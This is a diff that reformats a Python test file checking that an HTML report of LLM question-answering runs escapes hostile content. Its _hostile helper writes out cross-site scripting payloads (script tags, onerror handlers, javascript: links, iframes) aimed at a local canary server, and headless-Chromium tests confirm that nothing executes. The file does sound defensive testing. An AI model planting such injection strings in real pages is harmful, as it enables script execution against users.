@@ -41,32 +41,56 @@ def sink() -> Iterator[ReplayServer]:
 
 
 def _hostile(url: str) -> str:
-    return (f'<script>window.__pwned = 1</script><img src="{url}/img?c={CANARY}" '
-            f'onerror="window.__pwned = 2"> ![logo]({url}/md?c={CANARY}) '
-            f'[details](javascript:window.__pwned=3) <a href="{url}/a?c={CANARY}">more</a> '
-            f'<iframe src="{url}/frame"></iframe><style>body{{background:url({url}/css)}}</style>')
+    return (
+        f'<script>window.__pwned = 1</script><img src="{url}/img?c={CANARY}" '
+        f'onerror="window.__pwned = 2"> ![logo]({url}/md?c={CANARY}) '
+        f'[details](javascript:window.__pwned=3) <a href="{url}/a?c={CANARY}">more</a> '
+        f'<iframe src="{url}/frame"></iframe><style>body{{background:url({url}/css)}}</style>'
+    )
 
 
 def _answer(text: str) -> dict[str, Any]:
-    return {"status": 200, "sse": [chunk({"role": "assistant", "content": ""}),
-                                   chunk({"reasoning": text}), chunk({"content": text}),
-                                   chunk({}, "stop"), {"data": "[DONE]"}]}
+    return {
+        "status": 200,
+        "sse": [
+            chunk({"role": "assistant", "content": ""}),
+            chunk({"reasoning": text}),
+            chunk({"content": text}),
+            chunk({}, "stop"),
+            {"data": "[DONE]"},
+        ],
+    }
 
 
 @pytest.fixture
 def report(tmp_path: Path, sink: ReplayServer) -> Path:
     bad = _hostile(sink.url)
-    settings = build_kb(tmp_path, docs={"lite.md": "# Milvus Lite\n\nMilvus Lite keeps its data "
-                                                   f"in a local file.\n\n{bad}\n"})
+    settings = build_kb(
+        tmp_path,
+        docs={
+            "lite.md": f"# Milvus Lite\n\nMilvus Lite keeps its data in a local file.\n\n{bad}\n"
+        },
+    )
     with ReplayServer() as model, KnowledgeBase(settings=settings) as kb:
-        model.add(_answer(f"It keeps data in a file [1]. {bad}"), {"status": 500, "body": {
-            "error": {"message": bad}}}, {"status": 500, "body": {"error": {"message": bad}}},
-            {"status": 500, "body": {"error": {"message": bad}}})
+        model.add(
+            _answer(f"It keeps data in a file [1]. {bad}"),
+            {"status": 500, "body": {"error": {"message": bad}}},
+            {"status": 500, "body": {"error": {"message": bad}}},
+            {"status": 500, "body": {"error": {"message": bad}}},
+        )
         llm = OpenAICompatLLM("vllm:openai/gpt-oss-20b", base_url=model.url, backoff=0.01)
-        questions = [{"question": f"Where is data kept? {bad}", "reference": "a local file"},
-                     {"question": "And the metadata?", "reference": "etcd"}]
-        run_compare(kb, questions, models=[llm], efforts=["low"], concurrency=1,
-                    db_path=tmp_path / "runs.db")
+        questions = [
+            {"question": f"Where is data kept? {bad}", "reference": "a local file"},
+            {"question": "And the metadata?", "reference": "etcd"},
+        ]
+        run_compare(
+            kb,
+            questions,
+            models=[llm],
+            efforts=["low"],
+            concurrency=1,
+            db_path=tmp_path / "runs.db",
+        )
     return write_report(tmp_path / "runs.db", out=tmp_path / "report.html")
 
 
@@ -87,10 +111,44 @@ def test_report_markup_is_only_its_own(report: Path) -> None:
     parser.feed(page)
     assert not parser.tags & {"script", "img", "iframe", "a", "object", "embed", "form", "link"}
     assert not {a for a in parser.attrs if a.startswith("on")}
-    assert parser.tags <= {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "h4",
-                           "p", "table", "thead", "tbody", "tr", "th", "td", "div", "span", "b",
-                           "details", "summary", "pre", "ul", "ol", "li", "section", "svg", "g",
-                           "rect", "circle", "line", "text", "polygon", "path", "polyline"}
+    assert parser.tags <= {
+        "html",
+        "head",
+        "meta",
+        "title",
+        "style",
+        "body",
+        "h1",
+        "h2",
+        "h3",
+        "h4",
+        "p",
+        "table",
+        "thead",
+        "tbody",
+        "tr",
+        "th",
+        "td",
+        "div",
+        "span",
+        "b",
+        "details",
+        "summary",
+        "pre",
+        "ul",
+        "ol",
+        "li",
+        "section",
+        "svg",
+        "g",
+        "rect",
+        "circle",
+        "line",
+        "text",
+        "polygon",
+        "path",
+        "polyline",
+    }
     assert f'content="{CSP}"' in page
     # the hostile text is there, as text: answer, passage, question, error, reasoning
     assert page.count(html.escape("<script>window.__pwned = 1</script>")) >= 5
@@ -102,8 +160,10 @@ def _open(path: Path) -> tuple[list[str], Any, list[str]]:
     requests: list[str] = []
     dialogs: list[str] = []
     with sync_playwright() as p:
-        browser = p.chromium.launch(executable_path=CHROMIUM, args=[
-            "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"])
+        browser = p.chromium.launch(
+            executable_path=CHROMIUM,
+            args=["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"],
+        )
         try:
             page = browser.new_page()
             page.on("requestfinished", lambda r: requests.append(r.url))  # not blocked ones
@@ -122,21 +182,24 @@ def _open(path: Path) -> tuple[list[str], Any, list[str]]:
     return requests, pwned, dialogs
 
 
-def test_hostile_report_in_chromium_runs_and_fetches_nothing(report: Path,
-                                                             sink: ReplayServer) -> None:
+def test_hostile_report_in_chromium_runs_and_fetches_nothing(
+    report: Path, sink: ReplayServer
+) -> None:
     requests, pwned, dialogs = _open(report)
     assert pwned is None and not dialogs
     assert all(u.startswith("file://") for u in requests), requests
     assert not sink.requests  # the canary never left
 
 
-def test_csp_holds_even_if_markup_escaped_the_escaping(report: Path, sink: ReplayServer,
-                                                       tmp_path: Path) -> None:
+def test_csp_holds_even_if_markup_escaped_the_escaping(
+    report: Path, sink: ReplayServer, tmp_path: Path
+) -> None:
     page = report.read_text(encoding="utf-8")
     raw = _hostile(sink.url) + f"<p>{CANARY}</p>"
     broken = tmp_path / "broken.html"
-    broken.write_text(re.sub(r"(<body>)", lambda m: m.group(1) + raw, page, count=1),
-                      encoding="utf-8")
+    broken.write_text(
+        re.sub(r"(<body>)", lambda m: m.group(1) + raw, page, count=1), encoding="utf-8"
+    )
     requests, pwned, dialogs = _open(broken)
     assert pwned is None and not dialogs, "a script ran: the CSP did not hold"
     assert not sink.requests, [r.path for r in sink.requests]
